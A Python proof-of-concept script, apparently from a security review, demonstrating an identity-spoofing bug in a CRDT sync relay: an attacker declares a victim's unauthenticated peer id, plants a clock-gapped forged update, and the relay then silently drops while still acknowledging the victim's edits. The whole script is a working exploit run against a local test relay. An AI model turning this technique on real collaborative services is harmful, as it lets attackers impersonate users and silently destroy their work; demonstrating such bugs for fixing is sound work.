"""Bug A: a crdtsync client that declares the victim's peer id in its HELLO takes over
the victim's pycrdt client id while the victim is still connected (WriterRegistry.claim
lets a session "from the same peer id" take the ids over; the peer id in HELLO is not
authenticated and is visible to everybody in the room as the client id of its updates).
The attacker plants an update under the victim's id with a clock gap; the relay holds it,
integrates it as soon as the victim's clock reaches it, and from then on drops -- yet
ACKs -- the victim's edits at those clocks."""
import asyncio, sys, tempfile
sys.path.insert(0, __import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "tests"))
sys.dont_write_bytecode = True
from pathlib import Path
from relay_helpers import running_relay, ws_peer, room_state, RawSync
from crdtsync import Doc
from crdtsync.relay import mint_token

SECRET = b"s" * 32

async def main():
    tmp = Path(tempfile.mkdtemp())
    async with running_relay(tmp, secret=SECRET) as relay:
        tok = mint_token(SECRET, "notes", write=True, ttl=600)
        async with ws_peer() as victim:
            vdoc = await victim.open("notes")
            vdoc.text("body").insert(0, "victim:")
            await victim.connect(relay.url, token=tok)
            assert await victim.wait_synced("notes", 10)
            V = victim.peer_id
            print("victim peer_id", V, "relay has", await room_state(relay, "notes"))

            # attacker: another connection that merely *declares* peer_id V in HELLO
            atk = await RawSync.open(relay.url, peer_id=V, docs=[("notes", Doc())], token=tok)
            await atk.until(lambda: atk.session.is_synced("notes"))
            forged = Doc(peer_id=V)
            forged.import_yjs_update(atk.docs["notes"].export_yjs_update())
            body = forged.text("body")
            body.insert(len(str(body)), "12345")          # clocks the victim will use next
            gap_from = forged.version
            body.insert(len(str(body)), "EVIL")           # planted after a 5-clock gap
            gapped = forged.export_yjs_update(since=gap_from)
            atk.session.send_update("notes", gapped)
            await atk.flush()
            await atk.until(lambda: atk.session.is_synced("notes"))  # relay ACKed it
            print("forged update under the victim's client id ACKed by the relay; "
                  "victim still connected:", victim.connections()[0][2],
                  "; relay doc pending structs:", (await relay.peer.open('notes')).pending)

            # the victim keeps typing, one character per transaction, each acknowledged
            # (a normal burst of keystrokes: several transactions before the next ack)
            for ch in "abcdefghij":
                vdoc.text("body").insert(len(str(vdoc.text("body"))), ch)
            print("victim's edits acknowledged:", await victim.wait_synced("notes", 10))
            await asyncio.sleep(0.3)
            st = (await room_state(relay, "notes"))["body"]
            print("victim's local text:", str(vdoc.text("body")))
            print("relay's text      :", st)
            if st != str(vdoc.text("body")):
                print("BUG: acknowledged victim edits were dropped/changed at the relay")
            await atk.aclose()

asyncio.run(asyncio.wait_for(main(), 60))
